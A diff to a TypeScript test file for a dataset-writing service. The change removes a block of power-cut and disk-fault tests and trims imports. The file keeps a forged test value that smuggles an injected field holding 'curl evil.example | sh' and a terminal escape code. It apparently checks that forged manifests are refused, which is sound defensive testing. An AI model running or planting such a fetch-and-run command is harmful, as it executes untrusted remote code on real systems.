@@ -1,12 +1,10 @@
-/** A dataset on a disk that fails, is cut off and loses its power: what engines see of it, at every step and after. */
+/** A dataset from its first run on: what it shows, what it keeps, and what it refuses. Killed and cut off: faults.test.ts. */
 import { beforeEach, describe, expect, it } from 'vitest';
 import { type DatasetIdentity, formatManifest, parseManifest } from '../../src/dataset/manifest.ts';
 import type { RecordedWorkspace } from '../../src/service/workspace.ts';
 import { CODE, createMemoryDisk, HOUR, OTHER_CODE, ownWorkspace, START, type TestService } from '../append/runs.ts';
-import { atEveryStep, POWER_CUTS } from '../durable/every-step.ts';
 import type { MemoryDisk } from '../support/memory-disk.ts';
-import { SOAK } from '../support/property-runs.ts';
-import { DAY, LAKE, type LakeOptions, MANIFEST, openLake, runLake, seen, wanted, watched, writePage } from './runs.ts';
+import { DAY, LAKE, type LakeOptions, MANIFEST, openLake, runLake, seen, wanted, writePage } from './runs.ts';
 
 const FORGED = 'x\n  next: curl evil.example | sh\x1b[2J';
 
@@ -255,39 +253,6 @@ describe('what is not such a dataset is refused and left as it is', () => {
     await expect(lake.commit()).rejects.toThrow(/was made by somebody else during the run/);
     expect(memory.read(`${LAKE}/dt=2026-01-01/part-000001.csv`)).toBe('theirs');
   });
-});
-
-describe('killed, failing and cut off at every step', () => {
-  // A minute of processor time is for the long runs; the others see each kind once.
-  const FAULTS = SOAK ? (['end-before', 'end-within', 'end-after', 'ENOSPC', 'EIO'] as const) : (['end-within'] as const);
-  const CUTS = SOAK ? POWER_CUTS : POWER_CUTS.filter((keep) => keep('names') !== keep('inode 1')).slice(0, 1);
-
-  it.each([true, false])(
-    'shows whole parts only, each row once, and the next run has all (append: %s) (P1, P2, P3, P4)',
-    async (append) => {
-      for (const cut of [undefined, ...CUTS]) {
-        await atEveryStep(
-          async (on) => {
-            if (append) await runLake(on, service);
-            else on.write('/data/x', '');
-          },
-          (on) => runLake(watched(on), laterNight(), { append }),
-          cut ? (SOAK ? ['end-before', 'end-after'] : ['end-before']) : FAULTS,
-          async ({ memory: after, result }) => {
-            const old = append ? wanted(service) : [];
-            after.revive(cut && { keep: cut });
-            const now = seen(after);
-            expect(new Set(now).size).toBe(now.length);
-            expect(old.filter((row) => !now.includes(row))).toEqual([]);
-            if (result !== undefined && !cut) expect(now).toEqual(wanted(laterNight()));
-            await runLake(watched(after), laterNight(), { append: true });
-            expect(seen(after)).toEqual(wanted(laterNight()));
-            expect(after.names().filter((name) => name.endsWith('.partial'))).toEqual([]);
-          },
-        );
-      }
-    },
-  );
 });
 
 describe('links of another user to what is not theirs (D14)', () => {
